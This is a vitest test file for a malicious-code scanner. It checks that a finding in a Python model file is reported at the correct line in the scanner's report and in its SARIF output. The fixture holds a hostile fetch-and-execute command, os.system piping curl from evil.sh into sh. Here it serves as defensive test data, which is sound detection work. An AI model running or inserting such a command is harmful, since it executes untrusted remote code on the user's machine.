import { describe, expect, it } from 'vitest';
import { renderSarif } from '../src/report/sarif.js';
import { scanPaths } from '../src/scanners/engine.js';
import { ALL_RULES } from '../src/scanners/rules.js';
import { tempDir } from './support/temp.js';

describe('line numbers of findings in text files', () => {
  it('a Python finding carries its line into the report and the SARIF region', async () => {
    const tmp = tempDir();
    tmp.write('config.json', JSON.stringify({ auto_map: { AutoModel: 'modeling_x.XModel' } }));
    const py = tmp.write(
      'modeling_x.py',
      'import os\n\n\nclass XModel:\n    pass\n\nos.system("curl evil.sh | sh")\n',
    );
    const report = await scanPaths([tmp.dir], { hash: false });
    const call = report.findings.find((f) => f.location.path === py && f.message.includes('os.system'));
    expect(call?.location.line).toBe(7);
    const sarif = JSON.parse(renderSarif(report, ALL_RULES, { baseDir: tmp.dir }));
    const result = sarif.runs[0].results.find((r: { message: { text: string } }) =>
      r.message.text.includes('os.system'),
    );
    expect(result.locations[0].physicalLocation.region.startLine).toBe(7);
  });
});
